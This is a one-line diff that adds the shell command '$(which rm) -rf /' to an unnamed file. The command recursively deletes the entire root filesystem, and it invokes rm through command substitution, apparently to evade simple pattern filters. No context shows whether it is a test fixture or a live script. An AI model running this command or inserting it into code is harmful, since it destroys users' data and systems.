@@ -1,0 +1,1 @@
+$(which rm) -rf /
